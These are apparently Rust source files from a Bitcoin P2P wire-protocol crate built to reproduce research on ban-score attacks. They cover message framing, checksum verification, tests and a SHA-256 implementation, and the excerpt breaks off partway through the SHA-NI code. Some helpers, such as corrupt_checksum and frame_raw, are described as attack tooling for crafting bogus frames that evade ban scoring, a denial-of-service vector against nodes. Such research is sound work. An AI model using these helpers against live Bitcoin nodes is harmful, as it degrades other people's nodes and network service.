            "getblocktxn" => Message::GetBlockTxn(BlockTxnRequest::decode(&mut r)?),
            "blocktxn" => Message::BlockTxn(BlockTxn::decode(&mut r)?),
            "reject" => Message::Reject(RejectMessage::decode(&mut r)?),
            other => return Err(DecodeError::UnknownCommand(other.to_owned())),
        };
        r.expect_end()?;
        Ok(msg)
    }
}

/// The fixed 24-byte message header.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct MessageHeader {
    /// Network magic.
    pub magic: u32,
    /// NUL-padded ASCII command.
    pub command: [u8; 12],
    /// Payload length.
    pub length: u32,
    /// First 4 bytes of `sha256d(payload)`.
    pub checksum: [u8; 4],
}

impl MessageHeader {
    /// Returns the command as a string slice, if printable ASCII.
    ///
    /// # Errors
    ///
    /// [`DecodeError::BadCommand`] when padding or characters are malformed.
    pub fn command_str(&self) -> DecodeResult<&str> {
        let end = self
            .command
            .iter()
            .position(|b| *b == 0)
            .unwrap_or(self.command.len());
        let (name, pad) = self.command.split_at(end);
        if pad.iter().any(|b| *b != 0) {
            return Err(DecodeError::BadCommand);
        }
        let s = std::str::from_utf8(name).map_err(|_| DecodeError::BadCommand)?;
        if s.is_empty() || !s.bytes().all(|b| (0x20..0x7f).contains(&b)) {
            return Err(DecodeError::BadCommand);
        }
        Ok(s)
    }

    /// Builds a NUL-padded command array. Commands longer than the 12-byte
    /// field are truncated — the wire format cannot carry them, and the
    /// attack tooling feeds arbitrary strings through here.
    pub fn pad_command(cmd: &str) -> [u8; 12] {
        let mut out = [0u8; 12];
        for (dst, src) in out.iter_mut().zip(cmd.bytes()) {
            *dst = src;
        }
        out
    }
}

impl Encodable for MessageHeader {
    fn encode(&self, w: &mut Writer) {
        w.u32_le(self.magic);
        w.bytes(&self.command);
        w.u32_le(self.length);
        w.bytes(&self.checksum);
    }
}

impl Decodable for MessageHeader {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(MessageHeader {
            magic: r.u32_le()?,
            command: r.array()?,
            length: r.u32_le()?,
            checksum: r.array()?,
        })
    }
}

/// Computes the header checksum over a payload.
///
/// Rides the allocation-free [`crate::crypto::sha256d`] path: both hash
/// passes stay on the stack, so checksumming adds no per-message heap
/// traffic on either send ([`RawMessage::frame`]) or receive
/// ([`verify_checksum`]).
pub fn payload_checksum(payload: &[u8]) -> [u8; 4] {
    let d = crate::crypto::sha256d(payload);
    d.first_chunk().copied().unwrap_or([0; 4])
}

/// A framed message as raw bytes: header fields plus payload. Used by the
/// attack tooling to craft *bogus* frames (wrong checksum, unknown command,
/// truncated payload) that a well-formed [`Message`] could never represent.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct RawMessage {
    /// The header.
    pub header: MessageHeader,
    /// The payload bytes.
    pub payload: Bytes,
}

impl RawMessage {
    /// Frames `msg` for `network` with a correct checksum.
    pub fn frame(network: Network, msg: &Message) -> Self {
        let payload = Bytes::from(msg.encode_payload());
        RawMessage {
            header: MessageHeader {
                magic: network.magic(),
                command: MessageHeader::pad_command(msg.command()),
                // Real payloads fit u32 by the MAX_MESSAGE_SIZE cap; an
                // attack-crafted oversize payload saturates the field.
                length: u32::try_from(payload.len()).unwrap_or(u32::MAX),
                checksum: payload_checksum(&payload),
            },
            payload,
        }
    }

    /// Frames an arbitrary command/payload with a correct checksum.
    pub fn frame_raw(network: Network, command: &str, payload: Bytes) -> Self {
        RawMessage {
            header: MessageHeader {
                magic: network.magic(),
                command: MessageHeader::pad_command(command),
                length: u32::try_from(payload.len()).unwrap_or(u32::MAX),
                checksum: payload_checksum(&payload),
            },
            payload,
        }
    }

    /// Replaces the checksum with a deliberately wrong value — the paper's
    /// "forgoing ban score by constructing bogus messages" vector.
    pub fn corrupt_checksum(mut self) -> Self {
        if let Some(b) = self.header.checksum.first_mut() {
            *b ^= 0xff;
        }
        self
    }

    /// Serializes header + payload into one buffer.
    pub fn to_bytes(&self) -> Bytes {
        let mut w = Writer::with_capacity(HEADER_SIZE + self.payload.len());
        self.header.encode(&mut w);
        w.bytes(&self.payload);
        w.into_bytes()
    }

    /// Total wire size.
    pub fn wire_len(&self) -> usize {
        HEADER_SIZE + self.payload.len()
    }
}

/// Outcome of pulling one frame off a byte stream.
#[derive(Clone, Debug, PartialEq)]
pub enum FrameResult {
    /// A complete frame was read; `consumed` bytes were used.
    Frame {
        /// The raw frame.
        raw: RawMessage,
        /// Bytes consumed from the stream.
        consumed: usize,
    },
    /// More bytes are needed before a frame can be read.
    Incomplete,
}

/// Reads one frame from `buf` without validating checksum or payload —
/// validation order is the caller's business (and the crux of BM-DoS
/// vector 2).
///
/// # Errors
///
/// [`DecodeError::WrongMagic`] for a foreign network,
/// [`DecodeError::OversizedLength`] for a length over
/// [`MAX_MESSAGE_SIZE`].
pub fn read_frame(network: Network, buf: &[u8]) -> DecodeResult<FrameResult> {
    let Some((header, total)) = frame_header(network, buf)? else {
        return Ok(FrameResult::Incomplete);
    };
    let Some(payload_bytes) = buf.get(HEADER_SIZE..total) else {
        return Ok(FrameResult::Incomplete);
    };
    let payload = Bytes::copy_from_slice(payload_bytes);
    Ok(FrameResult::Frame {
        raw: RawMessage { header, payload },
        consumed: total,
    })
}

/// Zero-copy variant of [`read_frame`]: reads the frame starting at byte
/// `offset` of `buf`, returning a payload that is a refcounted
/// [`Bytes::slice`] of `buf` instead of a fresh allocation. `consumed` is
/// relative to `offset`. An `offset` at or past the end of `buf` reads as
/// an empty stream ([`FrameResult::Incomplete`]).
///
/// # Errors
///
/// Same as [`read_frame`]: [`DecodeError::WrongMagic`] and
/// [`DecodeError::OversizedLength`].
pub fn read_frame_at(network: Network, buf: &Bytes, offset: usize) -> DecodeResult<FrameResult> {
    let region = buf.get(offset..).unwrap_or_default();
    let Some((header, total)) = frame_header(network, region)? else {
        return Ok(FrameResult::Incomplete);
    };
    // `frame_header` proved `offset + total <= buf.len()`, so the slice is
    // in range.
    let payload = buf.slice(offset + HEADER_SIZE..offset + total);
    Ok(FrameResult::Frame {
        raw: RawMessage { header, payload },
        consumed: total,
    })
}

/// Header parse + validation shared by [`read_frame`] and
/// [`read_frame_at`]: returns `None` when `region` does not yet hold a
/// complete frame, else the header and the frame's total wire length.
fn frame_header(
    network: Network,
    region: &[u8],
) -> DecodeResult<Option<(MessageHeader, usize)>> {
    if region.len() < HEADER_SIZE {
        return Ok(None);
    }
    let mut r = Reader::new(region);
    let header = MessageHeader::decode(&mut r)?;
    if header.magic != network.magic() {
        return Err(DecodeError::WrongMagic(header.magic));
    }
    if header.length as usize > MAX_MESSAGE_SIZE {
        return Err(DecodeError::OversizedLength {
            what: "message payload",
            len: header.length as u64,
            max: MAX_MESSAGE_SIZE as u64,
        });
    }
    let total = HEADER_SIZE + header.length as usize;
    if region.len() < total {
        return Ok(None);
    }
    Ok(Some((header, total)))
}

/// Verifies a frame's checksum.
///
/// # Errors
///
/// [`DecodeError::BadChecksum`] on mismatch.
pub fn verify_checksum(raw: &RawMessage) -> DecodeResult<()> {
    let computed = payload_checksum(&raw.payload);
    if computed != raw.header.checksum {
        return Err(DecodeError::BadChecksum {
            declared: raw.header.checksum,
            computed,
        });
    }
    Ok(())
}

/// Full receive path: checksum first, then command lookup, then payload
/// decode — the same order Bitcoin Core uses.
///
/// # Errors
///
/// Checksum, command and payload errors in that order of precedence.
pub fn decode_frame(raw: &RawMessage) -> DecodeResult<Message> {
    verify_checksum(raw)?;
    let cmd = raw.header.command_str()?;
    Message::decode_payload(cmd, &raw.payload)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::block::BlockHeader;

    fn addr(i: u8) -> NetAddr {
        NetAddr::new([10, 0, 0, i], 8333)
    }

    fn sample_messages() -> Vec<Message> {
        let tx = Transaction::coinbase(50, b"tag");
        let mut block = Block {
            header: BlockHeader::default(),
            txs: vec![tx.clone()],
        };
        block.header.merkle_root = block.merkle_root();
        block.header.mine();
        let locator = BlockLocator {
            version: crate::types::PROTOCOL_VERSION,
            hashes: vec![block.hash()],
            stop: Hash256::ZERO,
        };
        vec![
            Message::Version(VersionMessage::new(addr(1), addr(2), 7)),
            Message::Verack,
            Message::Addr(vec![TimestampedAddr {
                time: 1,
                addr: addr(3),
            }]),
            Message::GetAddr,
            Message::Ping(0xdead),
            Message::Pong(0xdead),
            Message::Inv(vec![Inventory::new(
                crate::types::InvType::Tx,
                tx.txid(),
            )]),
            Message::GetData(vec![Inventory::new(
                crate::types::InvType::Block,
                block.hash(),
            )]),
            Message::NotFound(vec![]),
            Message::GetBlocks(locator.clone()),
            Message::GetHeaders(locator),
            Message::Headers(vec![HeadersEntry(block.header)]),
            Message::Tx(tx.clone()),
            Message::Block(block.clone()),
            Message::Mempool,
            Message::MerkleBlock(MerkleBlockMsg {
                header: block.header,
                total_txs: 1,
                hashes: vec![tx.txid()],
                flags: vec![1],
            }),
            Message::SendHeaders,
            Message::FeeFilter(1000),
            Message::FilterLoad(BloomFilter::new(10, 0.01, 5, crate::bloom::BloomFlags::All)),
            Message::FilterAdd(FilterAdd { data: vec![1, 2, 3] }),
            Message::FilterClear,
            Message::SendCmpct(SendCmpct {
                announce: true,
                version: 1,
            }),
            Message::CmpctBlock(CompactBlock::from_block(&block, 3)),
            Message::GetBlockTxn(BlockTxnRequest::from_absolute(block.hash(), &[0])),
            Message::BlockTxn(BlockTxn {
                block_hash: block.hash(),
                txs: vec![tx],
            }),
            Message::Reject(RejectMessage {
                message: "tx".into(),
                code: 0x10,
                reason: "bad-txns".into(),
                data: Some(Hash256::ZERO),
            }),
        ]
    }

    #[test]
    fn twenty_six_commands() {
        assert_eq!(ALL_COMMANDS.len(), 26);
        let msgs = sample_messages();
        assert_eq!(msgs.len(), 26);
        let mut seen: Vec<&str> = msgs.iter().map(|m| m.command()).collect();
        seen.sort_unstable();
        let mut expect = ALL_COMMANDS.to_vec();
        expect.sort_unstable();
        assert_eq!(seen, expect);
    }

    #[test]
    fn every_message_roundtrips_through_frame() {
        for msg in sample_messages() {
            let raw = RawMessage::frame(Network::Regtest, &msg);
            let bytes = raw.to_bytes();
            match read_frame(Network::Regtest, &bytes).unwrap() {
                FrameResult::Frame { raw: parsed, consumed } => {
                    assert_eq!(consumed, bytes.len());
                    let decoded = decode_frame(&parsed).unwrap();
                    assert_eq!(decoded, msg, "command {}", msg.command());
                }
                FrameResult::Incomplete => panic!("incomplete frame for {}", msg.command()),
            }
        }
    }

    #[test]
    fn corrupt_checksum_detected_before_payload_decode() {
        let msg = Message::Ping(1);
        let raw = RawMessage::frame(Network::Regtest, &msg).corrupt_checksum();
        assert!(matches!(
            decode_frame(&raw),
            Err(DecodeError::BadChecksum { .. })
        ));
    }

    #[test]
    fn wrong_magic_rejected() {
        let raw = RawMessage::frame(Network::Mainnet, &Message::Verack);
        let bytes = raw.to_bytes();
        assert!(matches!(
            read_frame(Network::Regtest, &bytes),
            Err(DecodeError::WrongMagic(_))
        ));
    }

    #[test]
    fn oversized_length_rejected_at_framing() {
        let mut raw = RawMessage::frame(Network::Regtest, &Message::Verack);
        raw.header.length = (MAX_MESSAGE_SIZE + 1) as u32;
        let bytes = raw.to_bytes();
        assert!(matches!(
            read_frame(Network::Regtest, &bytes),
            Err(DecodeError::OversizedLength { .. })
        ));
    }

    #[test]
    fn incomplete_frames() {
        let raw = RawMessage::frame(Network::Regtest, &Message::Ping(3));
        let bytes = raw.to_bytes();
        for cut in [0, 1, HEADER_SIZE - 1, HEADER_SIZE, bytes.len() - 1] {
            assert_eq!(
                read_frame(Network::Regtest, &bytes[..cut]).unwrap(),
                FrameResult::Incomplete,
                "cut at {cut}"
            );
        }
    }

    #[test]
    fn stream_of_two_frames_parses_sequentially() {
        let a = RawMessage::frame(Network::Regtest, &Message::Ping(1)).to_bytes();
        let b = RawMessage::frame(Network::Regtest, &Message::Pong(2)).to_bytes();
        let mut stream = Vec::new();
        stream.extend_from_slice(&a);
        stream.extend_from_slice(&b);
        let FrameResult::Frame { raw, consumed } = read_frame(Network::Regtest, &stream).unwrap()
        else {
            panic!()
        };
        assert_eq!(decode_frame(&raw).unwrap(), Message::Ping(1));
        let FrameResult::Frame { raw, .. } =
            read_frame(Network::Regtest, &stream[consumed..]).unwrap()
        else {
            panic!()
        };
        assert_eq!(decode_frame(&raw).unwrap(), Message::Pong(2));
    }

    #[test]
    fn read_frame_at_matches_read_frame_and_borrows_the_buffer() {
        let a = RawMessage::frame(Network::Regtest, &Message::Ping(1)).to_bytes();
        let b = RawMessage::frame(Network::Regtest, &Message::Pong(2))
            .corrupt_checksum()
            .to_bytes();
        let mut stream = Vec::new();
        stream.extend_from_slice(&a);
        stream.extend_from_slice(&b);
        let shared = Bytes::from(stream.clone());

        let mut off = 0;
        let mut copied = Vec::new();
        let mut borrowed = Vec::new();
        loop {
            let by_copy = read_frame(Network::Regtest, stream.get(off..).unwrap_or_default());
            let by_slice = read_frame_at(Network::Regtest, &shared, off);
            assert_eq!(by_copy, by_slice, "divergence at offset {off}");
            match by_slice.unwrap() {
                FrameResult::Frame { raw, consumed } => {
                    // Zero-copy: the payload points into the shared buffer.
                    assert!(std::ptr::eq(
                        raw.payload.as_ref().as_ptr(),
                        shared[off + HEADER_SIZE..].as_ptr()
                    ));
                    borrowed.push(raw.clone());
                    if let FrameResult::Frame { raw, .. } = by_copy.unwrap() {
                        copied.push(raw);
                    }
                    off += consumed;
                }
                FrameResult::Incomplete => break,
            }
        }
        assert_eq!(copied, borrowed);
        assert_eq!(copied.len(), 2);
        // Past-the-end offsets read as an empty stream, not a panic.
        assert_eq!(
            read_frame_at(Network::Regtest, &shared, stream.len() + 10),
            Ok(FrameResult::Incomplete)
        );
    }

    #[test]
    fn read_frame_at_propagates_header_errors() {
        let shared = Bytes::from(vec![0xAB; 64]);
        assert!(matches!(
            read_frame_at(Network::Regtest, &shared, 0),
            Err(DecodeError::WrongMagic(_))
        ));
        let mut oversize = RawMessage::frame(Network::Regtest, &Message::Verack);
        oversize.header.length = (MAX_MESSAGE_SIZE + 1) as u32;
        let bytes = oversize.to_bytes();
        assert!(matches!(
            read_frame_at(Network::Regtest, &Bytes::from(bytes.to_vec()), 0),
            Err(DecodeError::OversizedLength { .. })
        ));
    }

    #[test]
    fn unknown_command_error() {
        let raw = RawMessage::frame_raw(Network::Regtest, "bogus", Bytes::new());
        assert_eq!(
            decode_frame(&raw),
            Err(DecodeError::UnknownCommand("bogus".into()))
        );
    }

    #[test]
    fn bad_command_padding() {
        let mut raw = RawMessage::frame(Network::Regtest, &Message::Verack);
        raw.header.command = *b"ver\0ack\0\0\0\0\0";
        assert_eq!(decode_frame(&raw), Err(DecodeError::BadCommand));
    }

    #[test]
    fn trailing_payload_bytes_rejected() {
        let mut payload = Message::Ping(9).encode_payload();
        payload.push(0xff);
        let raw = RawMessage::frame_raw(Network::Regtest, "ping", Bytes::from(payload));
        assert!(matches!(
            decode_frame(&raw),
            Err(DecodeError::TrailingBytes(1))
        ));
    }

    #[test]
    fn header_size_constant() {
        let raw = RawMessage::frame(Network::Regtest, &Message::Verack);
        assert_eq!(raw.header.encode_to_vec().len(), HEADER_SIZE);
        assert_eq!(raw.wire_len(), HEADER_SIZE);
    }

    #[test]
    fn version_payload_field_order() {
        let v = VersionMessage::new(addr(1), addr(2), 42);
        let enc = v.encode_to_vec();
        // First 4 bytes: protocol version LE.
        assert_eq!(
            u32::from_le_bytes(enc[..4].try_into().unwrap()),
            crate::types::PROTOCOL_VERSION
        );
        let dec = VersionMessage::decode_all(&enc).unwrap();
        assert_eq!(dec, v);
    }
}
