//! # btc-wire
//!
//! A from-scratch implementation of the Bitcoin P2P wire protocol as spoken
//! by Bitcoin Core 0.20.0 (protocol version 70015): all 26 message types,
//! the 24-byte header framing with `sha256d` checksums, blocks,
//! transactions (legacy + SegWit), BIP37 bloom filters, BIP152 compact
//! blocks, and the crypto primitives they need (SHA-256, SipHash-2-4,
//! MurmurHash3).
//!
//! This crate is the protocol substrate for the reproduction of *"The
//! Security Investigation of Ban Score and Misbehavior Tracking in Bitcoin
//! Network"* (ICDCS 2022). Everything a ban-score rule keys off — oversized
//! lists, invalid PoW, mutated merkle roots, out-of-bounds compact-block
//! indices, oversize bloom filters — is validated here and surfaced to the
//! node layer rather than silently dropped.
//!
//! ## Quick example
//!
//! ```
//! use btc_wire::message::{decode_frame, read_frame, FrameResult, Message, RawMessage};
//! use btc_wire::types::Network;
//!
//! # fn main() -> Result<(), btc_wire::encode::DecodeError> {
//! let msg = Message::Ping(7);
//! let raw = RawMessage::frame(Network::Regtest, &msg);
//! let bytes = raw.to_bytes();
//! if let FrameResult::Frame { raw, .. } = read_frame(Network::Regtest, &bytes)? {
//!     assert_eq!(decode_frame(&raw)?, msg);
//! }
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

pub mod block;
pub mod bloom;
pub mod bytes;
pub mod compact;
pub mod constants;
pub mod crypto;
pub mod drain;
pub mod encode;
pub mod message;
pub mod tx;
pub mod types;

pub use block::{Block, BlockHeader};
pub use message::{Message, RawMessage};
pub use tx::Transaction;
pub use types::{Hash256, NetAddr, Network};
