//! A from-scratch SHA-256 implementation (FIPS 180-4), tuned for the
//! double-SHA256 ("sha256d") hot path.
//!
//! The wire protocol needs SHA-256 in two places: the message-header checksum
//! (first four bytes of `sha256d`) and block/transaction identifiers. The
//! offline-crate policy for this workspace does not include a hashing crate,
//! so the primitive is implemented here and exhaustively tested against the
//! FIPS / NIST vectors.
//!
//! # Performance structure
//!
//! All hashing funnels into one free function, [`compress_blocks`], which
//! dispatches at runtime between:
//!
//! - an x86-64 SHA-NI path (`_mm_sha256rnds2_epu32` and friends) when the CPU
//!   advertises the SHA extensions, and
//! - a macro-unrolled scalar path (64 rounds flattened over 8 statically
//!   rotated registers, ring-buffer message schedule) everywhere else.
//!
//! On top of the compressor sit allocation-free composites used by the wire
//! and consensus code:
//!
//! - [`Midstate`] — hash state after absorbing a block-aligned prefix. The
//!   miner captures the first 64 bytes of an 80-byte header once, then pays
//!   only one tail compression + one second-pass compression per nonce.
//! - [`sha256d_pair`] — double hash of two concatenated 32-byte nodes, the
//!   merkle-tree step, with the padding block for 64-byte messages
//!   precomputed as a constant.
//! - [`sha256d_into`] / [`sha256d`] — one-shot double hash that keeps both
//!   passes entirely on the stack (the second pass is a single compression
//!   since a 32-byte digest always fits one padded block).

/// Output size of SHA-256 in bytes.
pub const DIGEST_LEN: usize = 32;

const K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

const H0: [u32; 8] = [
    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
];

/// The padding block that completes a message of exactly 64 bytes
/// (0x80, zeros, then the 512-bit length big-endian).
const PAD64: [u8; 64] = {
    let mut b = [0u8; 64];
    b[0] = 0x80;
    b[62] = 0x02; // 512 = 0x0200 bits, big-endian in bytes 56..64
    b
};

/// Portable unrolled compression: 64 rounds flattened with statically
/// rotated registers and a 16-word ring buffer for the message schedule.
mod soft {
    use super::K;

    #[inline(always)]
    fn load_be(block: &[u8], i: usize) -> u32 {
        u32::from_be_bytes([block[4 * i], block[4 * i + 1], block[4 * i + 2], block[4 * i + 3]])
    }

    /// Message-schedule extension `w[i] += s0(w[i-15]) + w[i-7] + s1(w[i-2])`
    /// on the 16-word ring; returns the freshly extended word.
    #[inline(always)]
    fn sched(w: &mut [u32; 16], i: usize) -> u32 {
        let w15 = w[(i + 1) & 15];
        let w2 = w[(i + 14) & 15];
        let s0 = w15.rotate_right(7) ^ w15.rotate_right(18) ^ (w15 >> 3);
        let s1 = w2.rotate_right(17) ^ w2.rotate_right(19) ^ (w2 >> 10);
        w[i & 15] = w[i & 15]
            .wrapping_add(s0)
            .wrapping_add(w[(i + 9) & 15])
            .wrapping_add(s1);
        w[i & 15]
    }

    /// One FIPS 180-4 round with the register rotation resolved statically:
    /// instead of shuffling eight variables every round, each invocation
    /// names the registers in their rotated positions.
    macro_rules! round {
        ($a:ident, $b:ident, $c:ident, $d:ident, $e:ident, $f:ident, $g:ident, $h:ident, $kw:expr) => {{
            let t1 = $h
                .wrapping_add($e.rotate_right(6) ^ $e.rotate_right(11) ^ $e.rotate_right(25))
                .wrapping_add(($e & $f) ^ (!$e & $g))
                .wrapping_add($kw);
            let t2 = ($a.rotate_right(2) ^ $a.rotate_right(13) ^ $a.rotate_right(22))
                .wrapping_add(($a & $b) ^ ($a & $c) ^ ($b & $c));
            $d = $d.wrapping_add(t1);
            $h = t1.wrapping_add(t2);
        }};
    }

    /// Eight consecutive rounds, cycling through all register rotations.
    macro_rules! round8 {
        ($a:ident, $b:ident, $c:ident, $d:ident, $e:ident, $f:ident, $g:ident, $h:ident, $kw:expr, $base:expr) => {{
            round!($a, $b, $c, $d, $e, $f, $g, $h, $kw($base));
            round!($h, $a, $b, $c, $d, $e, $f, $g, $kw($base + 1));
            round!($g, $h, $a, $b, $c, $d, $e, $f, $kw($base + 2));
            round!($f, $g, $h, $a, $b, $c, $d, $e, $kw($base + 3));
            round!($e, $f, $g, $h, $a, $b, $c, $d, $kw($base + 4));
            round!($d, $e, $f, $g, $h, $a, $b, $c, $kw($base + 5));
            round!($c, $d, $e, $f, $g, $h, $a, $b, $kw($base + 6));
            round!($b, $c, $d, $e, $f, $g, $h, $a, $kw($base + 7));
        }};
    }

    pub fn compress_blocks(state: &mut [u32; 8], data: &[u8]) {
        debug_assert!(data.len() % 64 == 0);
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = *state;
        for block in data.chunks_exact(64) {
            let mut w = [0u32; 16];
            for (i, slot) in w.iter_mut().enumerate() {
                *slot = load_be(block, i);
            }
            let mut first = |i: usize| K[i].wrapping_add(w[i]);
            round8!(a, b, c, d, e, f, g, h, &mut first, 0);
            round8!(a, b, c, d, e, f, g, h, &mut first, 8);
            let mut ext = |i: usize| K[i].wrapping_add(sched(&mut w, i));
            round8!(a, b, c, d, e, f, g, h, &mut ext, 16);
            round8!(a, b, c, d, e, f, g, h, &mut ext, 24);
            round8!(a, b, c, d, e, f, g, h, &mut ext, 32);
            round8!(a, b, c, d, e, f, g, h, &mut ext, 40);
            round8!(a, b, c, d, e, f, g, h, &mut ext, 48);
            round8!(a, b, c, d, e, f, g, h, &mut ext, 56);
            a = a.wrapping_add(state[0]);
            b = b.wrapping_add(state[1]);
            c = c.wrapping_add(state[2]);
            d = d.wrapping_add(state[3]);
            e = e.wrapping_add(state[4]);
            f = f.wrapping_add(state[5]);
            g = g.wrapping_add(state[6]);
            h = h.wrapping_add(state[7]);
            *state = [a, b, c, d, e, f, g, h];
        }
    }
}

/// x86-64 SHA-NI compression (the canonical Intel two-lane sequence:
/// `sha256rnds2` consumes two rounds per issue, `sha256msg1`/`sha256msg2`
/// extend the message schedule four words at a time).
#[cfg(target_arch = "x86_64")]
mod ni {
    use super::K;
    use core::arch::x86_64::*;

    /// Whether the CPU supports the instructions `compress_blocks` uses.
    /// `is_x86_feature_detected!` caches its own answer, so this is cheap.
    #[inline]
    pub fn available() -> bool {
        std::arch::is_x86_feature_detected!("sha")
            && std::arch::is_x86_feature_detected!("sse4.1")
            && std::arch::is_x86_feature_detected!("ssse3")
    }

    /// Round constants for rounds `i..i+4`, packed for `sha256rnds2`.
    #[inline(always)]
    unsafe fn k4(i: usize) -> __m128i {
        _mm_set_epi32(
            K[i + 3] as i32,
            K[i + 2] as i32,
            K[i + 1] as i32,
            K[i] as i32,
        )
    }

    /// # Safety
    ///
    /// Caller must ensure [`available`] returned `true`.
    #[target_feature(enable = "sha,sse2,ssse3,sse4.1")]
    pub unsafe fn compress_blocks(state: &mut [u32; 8], data: &[u8]) {
        debug_assert!(data.len() % 64 == 0);
        // Big-endian word loads for each 16-byte lane.
        let mask = _mm_set_epi64x(0x0c0d_0e0f_0809_0a0bu64 as i64, 0x0405_0607_0001_0203);

        // Repack the linear state (a..h) into the ABEF/CDGH lane order the
        // sha256rnds2 instruction expects.
        let mut tmp = _mm_loadu_si128(state.as_ptr() as *const __m128i); // DCBA
        let mut state1 = _mm_loadu_si128(state.as_ptr().add(4) as *const __m128i); // HGFE
        tmp = _mm_shuffle_epi32(tmp, 0xB1); // CDAB
        state1 = _mm_shuffle_epi32(state1, 0x1B); // EFGH
        let mut state0 = _mm_alignr_epi8(tmp, state1, 8); // ABEF
        state1 = _mm_blend_epi16(state1, tmp, 0xF0); // CDGH

        for block in data.chunks_exact(64) {
            let abef_save = state0;
            let cdgh_save = state1;
            let p = block.as_ptr() as *const __m128i;

            // Rounds 0-3.
            let mut msg0 = _mm_shuffle_epi8(_mm_loadu_si128(p), mask);
            let mut msg = _mm_add_epi32(msg0, k4(0));
            state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
            msg = _mm_shuffle_epi32(msg, 0x0E);
            state0 = _mm_sha256rnds2_epu32(state0, state1, msg);

            // Rounds 4-7.
            let mut msg1 = _mm_shuffle_epi8(_mm_loadu_si128(p.add(1)), mask);
            msg = _mm_add_epi32(msg1, k4(4));
            state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
            msg = _mm_shuffle_epi32(msg, 0x0E);
            state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
            msg0 = _mm_sha256msg1_epu32(msg0, msg1);

            // Rounds 8-11.
            let mut msg2 = _mm_shuffle_epi8(_mm_loadu_si128(p.add(2)), mask);
            msg = _mm_add_epi32(msg2, k4(8));
            state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
            msg = _mm_shuffle_epi32(msg, 0x0E);
            state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
            msg1 = _mm_sha256msg1_epu32(msg1, msg2);

            // Rounds 12-15.
            let mut msg3 = _mm_shuffle_epi8(_mm_loadu_si128(p.add(3)), mask);
            msg = _mm_add_epi32(msg3, k4(12));
            state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
            msg = _mm_shuffle_epi32(msg, 0x0E);
            state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
            let mut t = _mm_alignr_epi8(msg3, msg2, 4);
            msg0 = _mm_add_epi32(msg0, t);
            msg0 = _mm_sha256msg2_epu32(msg0, msg3);
            msg2 = _mm_sha256msg1_epu32(msg2, msg3);

            // Rounds 16-47: steady-state schedule, four words per group.
            macro_rules! quad {
                ($cur:ident, $prev:ident, $next:ident, $m1:ident, $base:expr) => {{
                    msg = _mm_add_epi32($cur, k4($base));
                    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
                    msg = _mm_shuffle_epi32(msg, 0x0E);
                    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
                    t = _mm_alignr_epi8($cur, $prev, 4);
                    $next = _mm_add_epi32($next, t);
                    $next = _mm_sha256msg2_epu32($next, $cur);
                    $m1 = _mm_sha256msg1_epu32($m1, $cur);
                }};
            }
            quad!(msg0, msg3, msg1, msg3, 16);
            quad!(msg1, msg0, msg2, msg0, 20);
            quad!(msg2, msg1, msg3, msg1, 24);
            quad!(msg3, msg2, msg0, msg2, 28);
            quad!(msg0, msg3, msg1, msg3, 32);
            quad!(msg1, msg0, msg2, msg0, 36);
            quad!(msg2, msg1, msg3, msg1, 40);
            quad!(msg3, msg2, msg0, msg2, 44);

            // Rounds 48-51 still extend the schedule (W60..63 needs the
            // msg1 pass over W44..51); only rounds 52+ can drop it.
            quad!(msg0, msg3, msg1, msg3, 48);

            // Rounds 52-59: schedule tail, no more msg1 extensions needed.
            macro_rules! quad_tail {
                ($cur:ident, $prev:ident, $next:ident, $base:expr) => {{
                    msg = _mm_add_epi32($cur, k4($base));
                    state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
                    msg = _mm_shuffle_epi32(msg, 0x0E);
                    state0 = _mm_sha256rnds2_epu32(state0, state1, msg);
                    t = _mm_alignr_epi8($cur, $prev, 4);
                    $next = _mm_add_epi32($next, t);
                    $next = _mm_sha256msg2_epu32($next, $cur);
                }};
            }
            quad_tail!(msg1, msg0, msg2, 52);
            quad_tail!(msg2, msg1, msg3, 56);

            // Rounds 60-63.
            msg = _mm_add_epi32(msg3, k4(60));
            state1 = _mm_sha256rnds2_epu32(state1, state0, msg);
            msg = _mm_shuffle_epi32(msg, 0x0E);
            state0 = _mm_sha256rnds2_epu32(state0, state1, msg);

            state0 = _mm_add_epi32(state0, abef_save);
            state1 = _mm_add_epi32(state1, cdgh_save);
        }

        // Repack ABEF/CDGH back to the linear a..h order.
        tmp = _mm_shuffle_epi32(state0, 0x1B); // FEBA
        state1 = _mm_shuffle_epi32(state1, 0xB1); // DCHG
